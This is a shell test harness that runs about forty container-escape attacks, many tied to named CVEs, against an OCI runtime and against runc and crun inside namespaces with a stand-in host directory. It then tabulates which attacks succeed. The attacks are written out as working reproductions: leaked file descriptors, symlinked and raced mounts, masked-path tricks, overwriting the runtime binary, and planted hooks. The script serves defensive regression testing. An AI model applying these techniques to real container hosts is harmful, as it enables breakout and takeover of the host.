#!/bin/sh
# The attack table of OCI runtimes: an image, or a program in a container,
# against this runtime, and against runc and crun where they are installed.
#
#   tests/attacks/oci/run.sh [BIN [ATTACKS [MARKDOWN]]]
#
# Each attack is a function: it sets a trap in the image or the container, has
# the runtime run it, and looks whether the stand-in for the host was reached.
# That is a directory and a /dev of their own, on a host made of namespaces:
# nothing here can change the machine.  Only a success in our own column is a
# failure.  With MARKDOWN the table is written to that file as well.
set -u
cd "$(dirname "$0")/../../.." || exit 1
bin=$(realpath "${1-bin}")
attacks=$(realpath "${2-build/tests/attacks}")
markdown=${3-}

if [ "$(id -u)" != 0 ]; then
    echo "tests/attacks/oci/run.sh: run as root (sudo)" >&2
    exit 1
fi
if [ -z "${ATTACK_HOST-}" ]; then
    export ATTACK_HOST=1
    exec unshare --mount --uts --ipc --net --pid --fork --kill-child --mount-proc \
        --propagation private "$0" "$bin" "$attacks" "$markdown"
fi

# --- the host: what an attack may reach is all made here ---------------------

mount -t tmpfs -o mode=755 tmpfs /run
work=/run/attacks image=/run/attacks/image bundle=/run/attacks/bundle
host=$work/host
id=attack-$(readlink /proc/self/ns/mnt | tr -dc 0-9) # its groups are the machine's
mkdir -p $work/programs $work/dev $host $bundle $work/states $work/shared
mount -t tmpfs -o mode=755 tmpfs $work/programs # another file system than the image
mount -t tmpfs -o mode=755 tmpfs $work/dev
for device in null:1:3 zero:1:5 full:1:7 random:1:8 urandom:1:9 tty:5:0; do
    name=${device%%:*} number=${device#*:}
    mknod -m 666 "$work/dev/$name" c "${number%:*}" "${number#*:}"
done
mkdir $work/dev/pts $work/dev/shm
mount -t devpts -o newinstance,ptmxmode=666 devpts $work/dev/pts
ln -s pts/ptmx $work/dev/ptmx
ln -s /proc/self/fd $work/dev/fd
mount --move $work/dev /dev
# crun wants one of the two kinds of groups, this machine may have both.
covered=
if [ "$(stat -fc %T /sys/fs/cgroup)" != cgroup2fs ]; then
    mount -t cgroup2 cgroup2 /sys/fs/cgroup
    covered=1
fi

# --- one container ------------------------------------------------------------

# runtime WORD...: the runtime under test; what it says goes to the log.
runtime() {
    "$program" --root "$work/states" "$@"
}

# config SCRIPT [PROCESS [MOUNTS [LINUX [TOP]]]]: what config.json has besides.
# Without a mount on /dev the image's own is used, with what is in it.
config() {
    mounts='{"destination": "/proc", "type": "proc", "source": "proc"}'
    cat > $bundle/config.json << END
{"ociVersion": "1.0.2",
 "process": {"args": ["/bin/sh", "-c", "$1"], "env": ["PATH=/bin"],
    "user": {"uid": 0, "gid": 0}${2:-, \"cwd\": \"/\"}},
 "root": {"path": "$image"},
 "mounts": [${proc-$mounts}${3:-}],
 "linux": {"namespaces": [{"type": "pid"}, {"type": "mount"}, {"type": "uts"},
    {"type": "ipc"}, {"type": "network"}]${4:-}}${5:-}}
END
}

dev=', {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["mode=755"]}'
caps() {
    printf ', "cwd": "/", "capabilities": {"bounding": [%s], "permitted": [%s], "effective": [%s]}' \
        "$1" "$1" "$1"
}

# run: the container, with a limit of time: an attack may be to hold it up.
run() {
    timeout -k 1 20 "$program" --root $work/states run -b $bundle "$id"
}

# A new image, and a new stand-in for the host.
prepare() {
    rm -rf $image $host $work/shared $work/states/*
    mkdir -p $image $host $work/shared
    cp -a build/rootfs/. $image
    mkdir -p $image/attacks $image/proc $image/dev $image/sys
    cp "$attacks"/oci/* "$attacks/keyring" $image/attacks
    echo 'the secret of the host' > $host/secret
    chmod 666 /dev/null
    unset proc
}

# with_exec WATCHER: a program inside watches for 30 processes that come in.
with_exec() {
    config "$1 > /attacks/out 2>&1; echo \$? > /attacks/status" "$(caps "${2-}")" "$dev"
    run &
    until grep -q ready $image/attacks/out 2> /dev/null || ! kill -0 $!; do :; done
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
        timeout 20 "$program" --root $work/states exec "$id" /bin/true
    done
    touch $image/attacks/end
    wait $!
    cat $image/attacks/out
    [ "$(cat $image/attacks/status)" = 0 ]
}

# --- the attacks: 0 is a success, 77 cannot be tried -----------------------------

# shellcheck disable=SC2016 # the shell inside expands it
attack_leaked_directory() { # a directory of the host that the caller left open
    config 'for fd in 3 4 5 6 7 8 9; do cat /proc/self/fd/$fd/secret; done' '' "$dev"
    run 9< $host | grep 'secret of the host'
}

# by_descriptor CONFIG...: a program of the host is run, by each descriptor that
# may be open while it is looked up.  It cannot be had by a path inside.
by_descriptor() {
    cp build/rootfs/bin/busybox $host/echo
    for fd in 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        for way in "$fd/echo" "$fd/1/root$host/echo"; do
            "$1" "/proc/self/fd/$way"
            run 9< $host | grep 'ran what is outside' && return 0
        done
    done
    return 1
}

program_by_descriptor() {
    config true '' "$dev"
    sed -i "s|\"args\": [^]]*]|\"args\": [\"$1\", \"ran what is outside\"]|" $bundle/config.json
}

script_by_descriptor() {
    printf '#!%s ran what is outside\n' "$1" > $image/bin/entry
    chmod +x $image/bin/entry
    config /bin/entry '' "$dev"
    sed -i 's|"args": [^]]*]|"args": ["/bin/entry"]|' $bundle/config.json
}

attack_program_descriptor() { # args[0] is found by a descriptor
    by_descriptor program_by_descriptor
}

attack_script_descriptor() { # what a script of the image says it is run by
    by_descriptor script_by_descriptor
}

attack_cwd_descriptor() { # process.cwd is a link to a descriptor of the runtime
    for fd in 3 4 5 6 7 8 9; do
        config "cat secret ../../../$host/secret" ", \"cwd\": \"/proc/self/fd/$fd\"" "$dev"
        run 9< $host | grep 'secret of the host' && return 0
    done
    return 1
}

attack_mount_link() { # the mount point is a link out of the image
    ln -s ../../../../../../../../$host $image/data
    config 'touch /data/owned' '' "$dev, {\"destination\": \"/data/new\", \"type\": \"tmpfs\", \"source\": \"tmpfs\"}"
    run
    [ -e $host/owned ] || [ -e $host/new ]
}

attack_mount_race() { # it becomes one while the runtime looks
    mkdir -p $work/shared/place
    ln -s / $work/shared/other
    config 'cat /run/attacks/host/secret' '' "$dev
        , {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}
        , {\"destination\": \"/vol/place\", \"type\": \"bind\", \"source\": \"/\", \"options\": [\"rbind\", \"ro\"]}"
    # The engine bound a directory of ours; here / stands for its source.
    sed -i "s|\"source\": \"/\"|\"source\": \"$work/bundle\"|" $bundle/config.json
    "$attacks/oci/swap" $work/shared/place $work/shared/other &
    swap=$!
    status=1
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        run > $work/out
        grep -q 'secret of the host' $work/out && status=0
        [ -z "$(find / -xdev -maxdepth 1 -name config.json)" ] || status=0
    done
    kill $swap
    wait $swap
    return $status
}

attack_mount_root() { # it leads to the root itself, which is then below it
    ln -s / $image/data
    config "cat $host/secret /proc/1/root/$host/secret" '' "$dev, {\"destination\": \"/data\", \"type\": \"tmpfs\", \"source\": \"tmpfs\"}"
    run | grep 'secret of the host'
}

attack_proc_link() { # /proc is a link: its masked paths are looked for elsewhere
    rmdir $image/proc
    mkdir $image/fake
    ln -s fake $image/proc
    config 'rm /proc; mkdir /proc; cat /fake/version' '' "$dev" ', "maskedPaths": ["/proc/version"]'
    run | grep Linux
}

attack_proc_volume() { # a volume on /proc: the image tells what the kernel says
    proc='{"destination": "/proc", "type": "bind", "source": "'$work/shared'", "options": ["rbind"]}'
    echo 'not the kernel' > $work/shared/version
    config 'cat /proc/version' '' "$dev"
    run | grep 'not the kernel'
}

attack_proc_file() { # a volume that a link in the image leads over a file of /proc
    ln -s /proc/self/attr $image/data
    echo 'not the kernel' > $work/shared/current
    config 'cat /proc/1/attr/current' '' "$dev, {\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}"
    run | grep 'not the kernel'
}

attack_sys_link() { # a volume that a link in the image leads over /sys
    ln -s /sys $image/data
    echo 'not the kernel' > $work/shared/version
    config 'cat /sys/version' '' "$dev, {\"destination\": \"/sys\", \"type\": \"sysfs\", \"source\": \"sysfs\"}
        , {\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}"
    run | grep 'not the kernel'
}

attack_remount_link() { # a link in the image says which volume becomes writable
    ln -s /vol $image/data
    config 'touch /vol/owned' '' "$dev
        , {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\", \"ro\"]}
        , {\"destination\": \"/data\", \"type\": \"none\", \"source\": \"none\", \"options\": [\"remount\", \"rw\"]}"
    run
    [ -e $work/shared/owned ]
}

attack_mask_null() { # paths are masked with the /dev/null of the image
    ln -s /proc/sys/kernel/hostname $image/dev/null
    config 'echo owned > /proc/keys; hostname' '' '' \
        ', "maskedPaths": ["/proc/keys"], "readonlyPaths": ["/proc/sys"]'
    run | grep owned
}

attack_null_mode() { # the file that masks is the host's: change its mode
    config 'chmod 600 /proc/keys; chmod 600 /dev/null' "$(caps '"CAP_FOWNER"')" "$dev" ', "maskedPaths": ["/proc/keys"]'
    run
    [ "$(stat -c %a /dev/null)" != 666 ]
}

attack_console_link() { # /dev/console is a link out of the image
    command -v script || return 77
    ln -s $host/console $image/dev/console
    config 'echo owned > /dev/console' ', "cwd": "/", "terminal": true' \
        ', {"destination": "/dev/pts", "type": "devpts", "source": "devpts", "options": ["newinstance", "ptmxmode=0666"]}'
    timeout 20 script -qec "$program --root $work/states run -b $bundle $id" /dev/null
    [ -e $host/console ]
}

attack_device_link() { # /dev is a link to a volume: devices are made in it
    rmdir $image/dev
    ln -s /data $image/dev
    config true '' ", {\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"$host\", \"options\": [\"rbind\"]}" \
        ', "devices": [{"path": "/dev/disk", "type": "b", "major": 259, "minor": 0}]'
    run
    [ -e $host/disk ] || [ -e $host/null ]
}

attack_passwd_pipe() { # a pipe as /etc/passwd: the runtime waits for it
    rm -f $image/etc/passwd
    mkfifo $image/etc/passwd
    config true '' "$dev"
    timeout -k 1 5 "$program" --root $work/states run -b $bundle "$id"
    case $? in
    124 | 137) return 0 ;; # its time was up
    *) return 1 ;;
    esac
}

attack_passwd_kernel() { # it is the kernel's log, which has no end
    ln -sf /proc/kmsg $image/etc/passwd
    config true '' "$dev"
    timeout -k 1 5 "$program" --root $work/states run -b $bundle "$id"
    case $? in
    124 | 137) return 0 ;; # its time was up
    *) return 1 ;;
    esac
}

attack_copy_race() { # what is copied to a tmpfs becomes a link to a masked path
    mkdir -p $work/shared/place $image/etc/hidden
    echo 'a masked secret' > $image/etc/hidden/key
    ln -s /etc/hidden $work/shared/other
    config 'cat /vol/place/key /vol/other/key' '' "$dev
        , {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}
        , {\"destination\": \"/vol/place\", \"type\": \"tmpfs\", \"source\": \"tmpfs\", \"options\": [\"tmpcopyup\"]}" \
        ', "maskedPaths": ["/etc/hidden"]'
    "$attacks/oci/swap" $work/shared/place $work/shared/other &
    swap=$!
    status=1
    for _ in $(seq 60); do
        run | grep 'masked secret' && status=0 && break
    done
    kill $swap
    wait $swap
    return $status
}

# renamed PLACE OTHER: the two directories of the image exchange their names.
renamed() {
    mkdir -p "$image/$1" "$image/$2"
    "$attacks/oci/swap" "$image/$1" "$image/$2" 150 &
    swap=$!
    for _ in $(seq 60); do
        run
    done
    kill $swap
    wait $swap
}

attack_proc_renamed() { # the masks look for /proc, which is called otherwise by now
    config 'for d in /proc /p2; do [ -f $d/keys ] && echo uncovered; done' '' '' ', "maskedPaths": ["/proc/keys"]'
    renamed proc p2 | grep uncovered
}

attack_device_renamed() { # devices are made in /dev, which is a volume's name by now
    config true '' "$dev, {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$host\", \"options\": [\"rbind\"]}"
    renamed dev vol
    [ -e $host/null ]
}

attack_device_volume() { # a volume over /dev: devices are made in it
    config true '' "$dev, {\"destination\": \"/dev\", \"type\": \"bind\", \"source\": \"$host\", \"options\": [\"rbind\"]}" \
        ', "devices": [{"path": "/dev/disk", "type": "b", "major": 259, "minor": 0}]'
    run
    [ -e $host/disk ] || [ -e $host/null ]
}

attack_hook_rights() { # the image has a program of its own where a hook is
    mkdir -p $image/hook
    printf '#!/bin/sh\nmknod /hook/disk b 259 0\n' > $image/hook/program
    chmod +x $image/hook/program
    config true "$(caps '')" "$dev" '' ', "hooks": {"startContainer": [{"path": "/hook/program"}]}'
    run
    [ -e $image/hook/disk ]
}

attack_exec_overwrite() { # write to the runtime's own file
    with_exec "/attacks/overwrite /attacks/end" \
        '"CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"'
    grep -q owned "$program"
}

attack_exec_peek() { # look into the runtime while it comes in
    with_exec "/attacks/peek $host/secret /attacks/end" \
        '"CAP_DAC_OVERRIDE", "CAP_SYS_CHROOT"'
}

attack_exec_trace() { # the same, with the right to look into everything
    with_exec "/attacks/peek $host/secret /attacks/end" \
        '"CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_SYS_CHROOT"'
}

attack_pod_peek() { # the same, while a second container comes into its PID namespace
    config "/attacks/peek $host/secret /attacks/end > /attacks/out 2>&1; echo \$? > /attacks/status" \
        "$(caps '"CAP_DAC_OVERRIDE", "CAP_SYS_CHROOT"')" "$dev"
    run &
    until grep -q ready $image/attacks/out 2> /dev/null || ! kill -0 $!; do :; done
    first=$(runtime state "$id" | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
    config true '' "$dev"
    sed -i "s|{\"type\": \"pid\"}|{\"type\": \"pid\", \"path\": \"/proc/$first/ns/pid\"}|" $bundle/config.json
    for _ in 1 2 3 4 5 6 7 8 9 10; do
        timeout 20 "$program" --root $work/states run -b $bundle "$id-b"
    done
    touch $image/attacks/end
    wait $!
    cat $image/attacks/out
    [ "$(cat $image/attacks/status)" = 0 ]
}

# A pod by its user namespace: who is in the first one has the right to look
# into all that is in it, and has the host's /proc to find it.
begin_users() {
    chown -R 100000:100000 $image
    proc='{"destination": "/proc", "type": "bind", "source": "/proc", "options": ["rbind"]}'
    config "/attacks/peek $host/secret /attacks/end > /attacks/out 2>&1; echo \$? > /attacks/status" \
        "$(caps '"CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_SYS_CHROOT"')" "$dev" \
        ', "uidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],
        "gidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}]'
    sed -i 's|{"type": "pid"}|{"type": "user"}|' $bundle/config.json
    run &
    until grep -q ready $image/attacks/out 2> /dev/null || ! kill -0 $!; do :; done
    first=$(runtime state "$id" | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
}

end_users() {
    touch $image/attacks/end
    wait $!
    cat $image/attacks/out
    [ "$(cat $image/attacks/status)" = 0 ]
}

attack_users_peek() { # while a second container comes into its user namespace
    begin_users
    config true '' "$dev"
    sed -i "s|{\"type\": \"pid\"}|{\"type\": \"pid\"}, {\"type\": \"user\", \"path\": \"/proc/$first/ns/user\"}|" $bundle/config.json
    if [ "${program##*/}" = runc ]; then # which wants the map said again
        sed -i 's|"linux": {|&"uidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}], "gidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}], |' $bundle/config.json
    fi
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
        timeout 20 "$program" --root $work/states run -b $bundle "$id-b"
    done
    end_users
}

attack_users_exec() { # while exec comes into it
    begin_users
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
        timeout 20 "$program" --root $work/states exec "$id" /bin/true
    done
    end_users
}

attack_exec_words() { # read the variables that exec is given, on its command line
    config "/attacks/words TOKEN=secret /attacks/end > /attacks/out 2>&1; echo \$? > /attacks/status" "$(caps '')" "$dev"
    run &
    until grep -q ready $image/attacks/out 2> /dev/null || ! kill -0 $!; do :; done
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        timeout 20 "$program" --root $work/states exec -e TOKEN=secret "$id" /bin/true
    done
    touch $image/attacks/end
    wait $!
    cat $image/attacks/out
    [ "$(cat $image/attacks/status)" = 0 ]
}

attack_exec_inheritable() { # exec gives capabilities that an exec passes on
    config 'echo ready; cat' "$(caps '')" "$dev"
    mkfifo $work/input
    run < $work/input > $work/out &
    exec 3> $work/input
    until grep -q ready $work/out || ! kill -0 $!; do :; done
    runtime exec --cap CAP_NET_RAW "$id" grep CapInh /proc/self/status > $work/caps
    exec 3>&-
    wait $!
    rm $work/input
    cat $work/caps
    grep CapInh $work/caps | grep -v '0000000000000000'
}

attack_exec_groups() { # outside of some of the container's groups, and so of its limits and device rules
    hide='mount -t tmpfs tmpfs /sys/fs/cgroup'
    if [ -n "$covered" ]; then # with v1 it is a part of the trees
        umount /sys/fs/cgroup
        umount /sys/fs/cgroup/unified && unified=1
        hide='umount /sys/fs/cgroup/pids /sys/fs/cgroup/devices'
    fi
    config 'echo ready; cat' '' "$dev" ', "resources": {"pids": {"limit": 20}}'
    mkfifo $work/input
    run < $work/input > $work/out &
    exec 3> $work/input
    until grep -q ready $work/out || ! kill -0 $!; do :; done
    runtime exec "$id" cat /proc/self/cgroup > $work/usual
    unshare --mount --propagation private sh -c "$hide &&
        exec timeout 20 $program --root $work/states exec $id cat /proc/self/cgroup" > $work/unusual
    exec 3>&-
    wait $!
    runtime delete -f "$id"
    rm $work/input
    [ -z "${unified-}" ] || mount -t cgroup2 cgroup2 /sys/fs/cgroup/unified
    [ -z "$covered" ] || mount -t cgroup2 cgroup2 /sys/fs/cgroup
    unset unified
    cat $work/usual $work/unusual
    [ -s $work/unusual ] && ! cmp -s $work/usual $work/unusual
}

attack_groups() { # the groups of the caller
    command -v setpriv || return 77
    config 'id -G' '' "$dev"
    setpriv --groups 4444 "$program" --root $work/states run -b $bundle "$id" | grep 4444
}

attack_caller_groups() { # a group beside the container's own, in every tree of the machine
    [ -z "$covered" ] || umount /sys/fs/cgroup
    config "for t in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir \$t/$id-in; done" '' "$dev"', {"destination": "/sys",
        "type": "tmpfs", "source": "tmpfs"}, {"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup"}'
    sed -i 's|{"type": "pid"}|&, {"type": "cgroup"}|' $bundle/config.json
    run
    # Below a group with its name it is its own; runtimes may leave that.
    left=$(find /sys/fs/cgroup -type d -name "$id-in" | grep -v "$id[^/]*/$id-in\$")
    find /sys/fs/cgroup -depth -type d -name "*$id*" -exec rmdir {} +
    [ -z "$covered" ] || mount -t cgroup2 cgroup2 /sys/fs/cgroup
    echo "left: $left"
    [ -n "$left" ]
}

attack_no_pivot_proc() { # a procfs without masks, while the host's is still below
    config "unshare -mrpf sh -c 'mount -t proc -o nosuid,nodev,noexec none /proc && (: >> /proc/sys/kernel/core_pattern) && echo bare'" \
        "$(caps '"CAP_SETFCAP"')" "$dev" ', "maskedPaths": ["/proc/keys"], "readonlyPaths": ["/proc/sys"]'
    timeout -k 1 20 "$program" --root $work/states run --no-pivot -b $bundle "$id" | grep bare
}

attack_no_pivot_root() { # the host's root is below the own one, which is taken away
    chown -R 100000:100000 $image
    config "/attacks/uncover $host/secret" "$(caps '"CAP_SYS_ADMIN", "CAP_SYS_CHROOT"')" "$dev" \
        ', "uidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],
        "gidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}]'
    sed -i 's|{"type": "pid"}|&, {"type": "user"}|' $bundle/config.json
    timeout -k 1 20 "$program" --root $work/states run --no-pivot -b $bundle "$id" | grep 'secret of the host'
}

attack_no_groups_node() { # the image has brought a disk's file, and there are no groups to forbid it
    [ -d /sys/block/loop0 ] || return 77
    mknod -m 666 $image/disk b 7 0
    config '(: < /disk) && echo opened' '' "$dev"
    unshare --mount sh -c 'while umount -R -l /sys/fs/cgroup; do :; done; exec "$0" --root "$1" run -b "$2" "$3"' \
        "$program" $work/states $bundle "$id" | grep opened
}

attack_no_device_rules() { # config.json says nothing of devices: open a disk
    [ -d /sys/block/loop0 ] || return 77
    config 'mknod /disk b 7 0; (: < /disk) && echo opened' "$(caps '"CAP_MKNOD"')" "$dev"
    run | grep opened
}

attack_planted_state() { # another user's state below --root: its hook runs as root
    command -v setpriv || return 77
    config true '' "$dev" '' ", \"hooks\": {\"poststop\": [{\"path\": \"/bin/touch\", \"args\": [\"touch\", \"$host/owned\"]}]}"
    mkdir $work/planted
    runtime --root $work/planted create -b $bundle "$id" < /dev/null
    runtime --root $work/planted kill "$id" KILL
    until runtime --root $work/planted state "$id" | grep -q stopped; do :; done
    chown -R 65534:65534 $work/planted
    setpriv --reuid=65534 --regid=65534 --clear-groups touch $work/planted/mine || return 77
    timeout 20 "$program" --root $work/planted delete "$id"
    result=1
    [ ! -e $host/owned ] || result=0
    chown -R 0:0 $work/planted
    runtime --root $work/planted delete -f "$id"
    rm -rf $work/planted
    return $result
}

attack_pid_file_link() { # the pid file's name, and those beside it, are links of another user
    config true '' "$dev"
    mkdir -m 777 $work/public
    for name in pid pid.new .pid .pid.tmp; do
        ln -s $host/secret $work/public/$name
        chown -h 65534:65534 $work/public/$name
    done
    timeout 20 "$program" --root $work/states run --pid-file $work/public/pid -b $bundle "$id"
    rm -rf $work/public
    ! grep 'secret of the host' $host/secret
}

attack_locks() { # another user, and who is inside, hold locks on all they may read
    command -v setpriv > /dev/null && command -v flock > /dev/null || return 77
    config 'echo ready; cat' '' "$dev"
    mkfifo $work/input
    run < $work/input > $work/out &
    exec 3> $work/input
    until grep -q ready $work/out || ! kill -0 $!; do :; done
    for path in $work/states $work/states/* /sys/fs/cgroup/ten-steps /sys/fs/cgroup/*/ten-steps; do
        setpriv --reuid=65534 --regid=65534 --clear-groups timeout 30 flock -n "$path" sleep 30 3>&- &
        holders="${holders-} $!"
    done
    until ! pgrep -x flock > /dev/null || pgrep -x sleep > /dev/null; do :; done
    timeout 8 "$program" --root $work/states delete -f "$id"
    status=$?
    # shellcheck disable=SC2086 # a list of words
    kill $holders
    holders=
    exec 3>&-
    rm $work/input
    [ $status = 124 ]
}

attack_freezer() { # it freezes itself, in a group below its own: nobody in there dies
    [ -d /sys/fs/cgroup/freezer ] || [ -n "$covered" ] || return 77
    [ -z "$covered" ] || umount /sys/fs/cgroup
    config 'cd /sys/fs/cgroup/freezer; mkdir below; echo 1 > below/cgroup.procs; echo FROZEN > below/freezer.state' '' "$dev"', {"destination": "/sys",
        "type": "tmpfs", "source": "tmpfs"}, {"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup"}'
    sed -i 's|{"type": "pid"}|&, {"type": "cgroup"}|' $bundle/config.json
    run &
    until grep -qs FROZEN "$(find /sys/fs/cgroup/freezer -path "*$id*/below/freezer.state")" || ! kill -0 $!; do :; done
    timeout 20 "$program" --root $work/states delete -f "$id"
    status=$?
    find /sys/fs/cgroup/freezer -path "*$id*/below" -exec sh -c 'echo THAWED > "$0/freezer.state"' {} \;
    wait $!
    timeout 20 "$program" --root $work/states delete -f "$id"
    find /sys/fs/cgroup -depth -type d -name "*$id*" -exec rmdir {} +
    [ -z "$covered" ] || mount -t cgroup2 cgroup2 /sys/fs/cgroup
    [ $status != 0 ]
}

attack_lease() { # a lease on a file of the image that is read on the way
    command -v python3 || return 77
    config 'echo $HOME' '' "$dev"
    mkdir -p $image/etc
    cp build/rootfs/etc/passwd $image/etc/passwd
    python3 -c "
import fcntl, signal, time
signal.signal(signal.SIGIO, signal.SIG_IGN)
f = open('$image/etc/passwd', 'r+')
fcntl.fcntl(f, fcntl.F_SETLEASE, fcntl.F_WRLCK)
print('held', flush=True)
time.sleep(60)" > $work/held &
    until grep -q held $work/held || ! kill -0 $!; do :; done
    timeout -k 1 20 "$program" --root $work/states run -b $bundle "$id"
    status=$?
    kill $!
    [ $status = 124 ] || [ $status = 137 ] # in the kernel it hears no SIGTERM
}

attack_annotation_option() { # an annotation for systemd that is an option of the program which asks it
    command -v busctl > /dev/null || return 77
    mkdir -p /run/systemd/system
    printf '#!/bin/sh\ntouch %s/owned\n' $host > $work/own
    chmod 755 $work/own
    config true '' "$dev" ', "cgroupsPath": "system.slice:attack:box"' \
        ", \"annotations\": {\"org.systemd.property.Description\": \"'--address=unixexec:path=$work/own'\"}"
    timeout 20 "$program" --root $work/states --systemd-cgroup run -b $bundle "$id"
    rm -r $work/own /run/systemd
    [ -e $host/owned ]
}

# --- the table ---------------------------------------------------------------------

table=$work/table passed=0 failed=0 skipped=0 holes=
columns='10-full-container runc crun'
available=
: > $table

# A copy: the attacks aim at it.  And does it run anything at all here?
try_runtime() {
    program=$work/programs/$1
    cp "$(PATH=$bin:$PATH:/usr/sbin:/sbin command -v "$1")" "$program" 2> /dev/null || return 1
    prepare
    config 'echo it runs' '' "$dev"
    run 2> $work/log | grep -q 'it runs' && return 0
    echo "$1 does not run here: $(cat $work/log)"
    return 1
}

for column in $columns; do
    if try_runtime "$column"; then
        available="$available $column"
    elif [ "$column" = 10-full-container ]; then
        echo "0 passed, 1 failed, 0 skipped"
        exit 1
    fi
done

version() {
    case " $available " in
    *" $1 "*) "$work/programs/$1" --version | head -n 1 | sed 's/ version / /; s/.*10-full-container/this runtime/' ;;
    *) echo "$1: not installed" ;;
    esac
}

# row NAME CVE IDEA
row() {
    line="| $3 | $2 |"
    for column in $columns; do
        result=-
        case " $available " in
        *" $column "*)
            program=$work/programs/$column
            prepare
            "attack_$1" > $work/log 2>&1 < /dev/null
            case $? in
            0) result='**succeeds**' ;;
            77) result='not tried' ;;
            *) result=stopped ;;
            esac
            [ -z "${ATTACK_LOG-}" ] || sed "s/^/    $1 $column: /" $work/log
            timeout 20 "$program" --root $work/states delete -f "$id" > $work/log 2>&1
            cp "$(PATH=$bin:$PATH:/usr/sbin:/sbin command -v "$column")" "$program"
            ;;
        esac
        line="$line $result |"
        [ "$column" = 10-full-container ] || continue
        case $result in
        stopped) passed=$((passed + 1)) ;;
        *succeeds*) failed=$((failed + 1)) holes="$holes $1" ;;
        *) skipped=$((skipped + 1)) ;;
        esac
    done
    echo "$line" | tee -a $table
}

{
    echo "| attack | known from | $(version 10-full-container) | $(version runc) | $(version crun) |"
    echo "| --- | --- | --- | --- | --- |"
} | tee $table
row leaked_directory CVE-2024-21626 "read the host by a directory the caller left open"
row program_descriptor CVE-2024-21626 "the program is found by a link in /proc: a directory left open, or the runtime's own"
row script_descriptor CVE-2024-21626 "the same by the \`#!\` line of a script"
row cwd_descriptor CVE-2024-21626 "start in a directory of the host: \`cwd\` is a link in /proc"
row mount_link CVE-2017-1002101 "a mount point that is a link out of the image"
row mount_race CVE-2021-30465 "a mount point that becomes a link while the runtime looks"
row mount_root CVE-2021-30465 "a mount over the root itself"
row proc_link CVE-2023-27561 "/proc is a link, so that masked paths are elsewhere"
row proc_volume CVE-2019-16884 "a volume in the place of /proc"
row proc_file CVE-2025-52881 "a link leads a volume over files of /proc"
row sys_link - "a link leads a volume over /sys"
row remount_link - "\`remount\` by a link that leads to a read-only volume"
row mask_null CVE-2025-31133 "masked with the image's /dev/null, which is a link"
row null_mode CVE-2025-31133 "change the host's /dev/null by a masked path"
row console_link CVE-2025-52565 "/dev/console is a link out of the image"
row device_link CVE-2025-52565 "/dev is a link to a volume of the host: devices in it"
row device_volume - "a volume over a /dev of its own: devices in it"
row proc_renamed - "who has the image's directory, too, renames /proc in it while the runtime masks its files"
row device_renamed - "the same with /dev and a volume: devices in it"
row caller_groups - "/sys/fs/cgroup, writable: a group beside the container's own"
row no_pivot_proc - "\`--no-pivot\`: mount a /proc without masks in a user namespace"
row no_pivot_root - "\`--no-pivot\`: uncover the host's root in a user namespace, with CAP_SYS_ADMIN there"
row no_groups_node - "open a disk's file that the image has brought, where no groups are mounted"
row no_device_rules - "open a disk, where config.json has no rules for devices"
row passwd_pipe - "/etc/passwd is a pipe: hold the runtime up"
row passwd_kernel - "/etc/passwd is a link to the kernel's log: the same, and it is read away"
row copy_race - "what is copied to a tmpfs becomes a link to a masked path"
row hook_rights - "a program of the image as a startContainer hook: all capabilities"
row exec_overwrite CVE-2019-5736 "write to the runtime's own program file"
row exec_peek CVE-2016-9962 "look into the runtime while it comes in"
row exec_trace CVE-2016-9962 "the same, by who has CAP_SYS_PTRACE"
row pod_peek CVE-2016-9962 "look into it while it makes a second container of a pod"
row users_peek CVE-2016-9962 "the same in a pod by its user namespace, with the host's processes in view"
row users_exec CVE-2016-9962 "look into \`exec\` there"
row exec_words - "read the variables of \`exec -e\` on its command line"
row exec_inheritable CVE-2022-29162 "inheritable capabilities from \`exec --cap\`"
row exec_groups - "\`exec\` in a mount namespace that does not show all groups of the container: outside of its limits"
row groups CVE-2022-2995 "keep the caller's groups"
row planted_state - "a state that another user put below \`--root\`: its hook runs as root"
row pid_file_link - "the pid file, and the names beside it, are links of another user"
row locks - "hold \`delete --force\` up by locks on all that another user may read"
row freezer - "cannot be killed: it freezes itself in a group below its own (cgroup v1, writable)"
row lease - "hold \`run\` up by a lease on the image's /etc/passwd"
row annotation_option - "an annotation for systemd becomes an option: run a program of the host"

[ -z "$holes" ] || echo "holes:$holes"
if [ -n "$markdown" ]; then
    sed '/^<!-- table -->$/,$d' "$markdown" > $work/page
    { cat $work/page; echo '<!-- table -->'; cat $table; } > "$markdown"
fi
echo "$passed passed, $failed failed, $skipped skipped"
[ $failed = 0 ]
